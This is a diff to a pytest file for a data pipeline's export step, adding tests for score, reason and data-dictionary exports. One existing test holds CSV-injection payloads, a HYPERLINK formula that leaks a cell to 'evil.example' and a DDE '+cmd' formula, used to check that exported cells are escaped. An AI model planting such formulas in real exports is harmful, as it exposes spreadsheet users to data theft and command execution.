@@ -3,16 +3,20 @@
 from __future__ import annotations
 
 import datetime as dt
+import os
 import re
+import subprocess
+import sys
 from pathlib import Path
 
 import duckdb
 import pandas as pd
+import pyarrow.parquet as pq
 import pytest
 
 from pipeline.buyers.statement import write_buyer_statements
 from pipeline.csv_files import write_csv
-from pipeline.publish.exports import export_inventory
+from pipeline.publish.exports import export_published
 from pipeline.publish.publish import publish_inventory
 from pipeline.settings import REPO_ROOT
 from tests.publish.conftest import append_ledger, stage
@@ -76,9 +80,13 @@ def test_what_left_query_explains_each_departure(paths, policy):
 
 def test_exports_match_the_published_inventory(paths, policy):
     publish_twice(paths, policy)
-    written = export_inventory(paths.curated_db)
-    parquet, csv = written
-    assert [p.name for p in written] == ["eligible_inventory.parquet", "eligible_inventory.csv"]
+    written = export_published(paths.curated_db)
+    parquet, csv = written[:2]
+    assert [p.name for p in written] == [
+        f"{name}.{suffix}"
+        for name in ("eligible_inventory", "quality_scores", "quality_score_reasons", "data_dictionary")
+        for suffix in ("parquet", "csv")
+    ], f"exports written: {[p.name for p in written]}"
     assert all(p.parent == paths.curated_db.parent for p in written), "exports sit next to the database"
     with duckdb.connect(str(paths.curated_db), read_only=True) as conn:
         table = conn.execute("SELECT * FROM eligible_inventory ORDER BY registry, project_id, vintage").df()
@@ -93,9 +101,58 @@ def test_exports_match_the_published_inventory(paths, policy):
     assert not list(paths.curated_db.parent.glob(".*.tmp")), "no temporary export files are left behind"
 
 
+def test_scores_reasons_and_dictionary_are_exported_with_every_column_described(paths, policy):
+    publish_twice(paths, policy)
+    export_published(paths.curated_db)
+    folder = paths.curated_db.parent
+    with duckdb.connect(str(paths.curated_db), read_only=True) as conn:
+        scores = conn.execute("SELECT * FROM quality_scores ORDER BY registry, project_id, vintage").df()
+        reasons = conn.execute("SELECT sum(len(reasons)) FROM quality_scores").fetchone()[0]
+        published = conn.execute(
+            "SELECT table_name, column_name, comment FROM duckdb_columns() "
+            "WHERE schema_name = 'main' AND table_name = 'quality_scores'"
+        ).fetchall()
+
+    from_parquet = pd.read_parquet(folder / "quality_scores.parquet")
+    assert from_parquet["project_id"].tolist() == scores["project_id"].tolist(), "every scored row, in order"
+    assert [len(r) for r in from_parquet["reasons"]] == [len(r) for r in scores["reasons"]], "reasons kept as lists"
+    long = pd.read_csv(folder / "quality_score_reasons.csv")
+    assert len(long) == reasons > 0, f"one CSV row per reason: {len(long)} rows for {reasons} reasons"
+    assert list(long.columns) == ["project_id", "registry", "vintage", "code", "criterion", "message", "source"]
+    assert "reasons" not in pd.read_csv(folder / "quality_scores.csv").columns, "CSV cells hold no list of records"
+
+    schema = pq.read_schema(folder / "quality_scores.parquet")
+    for _, column, comment in published:
+        metadata = schema.field(column).metadata or {}
+        assert metadata.get(b"description") == comment.encode(), f"quality_scores.{column}: description {metadata}"
+    for name in ("eligible_inventory", "quality_score_reasons", "data_dictionary"):
+        undescribed = [f.name for f in pq.read_schema(folder / f"{name}.parquet") if not (f.metadata or {})]
+        assert not undescribed, f"{name}.parquet columns without a description: {undescribed}"
+
+    dictionary = pd.read_csv(folder / "data_dictionary.csv")
+    row = dictionary[(dictionary["relation"] == "eligible_inventory") & (dictionary["column"] == "available_net")]
+    assert row["description"].item().startswith("available - retired_for_buyers"), row.to_dict("records")
+    assert dictionary["description"].notna().all(), "every published column is described in the dictionary export"
+
+
+def test_make_export_runs_on_the_published_file_without_loading_dagster(paths, policy):
+    publish_twice(paths, policy)
+    makefile = (REPO_ROOT / "Makefile").read_text()
+    assert "$(PY) -m pipeline.publish.exports" in makefile, "make export must call the exporter directly"
+    env = os.environ | {"CREDIT_QUALITY_CURATED_DB": str(paths.curated_db)}
+    done = subprocess.run(
+        [sys.executable, "-X", "importtime", "-m", "pipeline.publish.exports"],
+        cwd=REPO_ROOT, env=env, capture_output=True, text=True, timeout=120,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert done.stdout.count("wrote ") == 8, done.stdout
+    imported = [line.rsplit("|", 1)[-1].strip() for line in done.stderr.splitlines() if line.startswith("import time")]
+    assert not [m for m in imported if m.split(".")[0] == "dagster"], "make export imported Dagster"
+
+
 def test_exporting_before_any_publish_is_a_clear_error(paths):
     with pytest.raises(FileNotFoundError, match="publish before exporting"):
-        export_inventory(paths.curated_db)
+        export_published(paths.curated_db)
 
 
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
@@ -111,7 +168,8 @@ def test_csv_cells_never_become_spreadsheet_formulas(paths, policy, tmp_path):
         ledger.execute("UPDATE retirements SET beneficiary = '\tTAB' || chr(13) || '=1+1'")
     with duckdb.connect(str(paths.work_db), read_only=True) as conn:
         publish_inventory(conn, paths, policy)
-    parquet, csv = export_inventory(paths.curated_db)
+    written = export_published(paths.curated_db)
+    parquet, csv = written[0], written[1]
 
     names = pd.read_csv(csv, dtype=str, keep_default_na=False).set_index("project_id")["name"].to_dict()
     expected = {"ART102": "'" + FORMULA, "CAR1745": "'+cmd|' /C calc'!A0", "ACR701": "'-2+3", "CAR1749": "'@SUM(1)"}
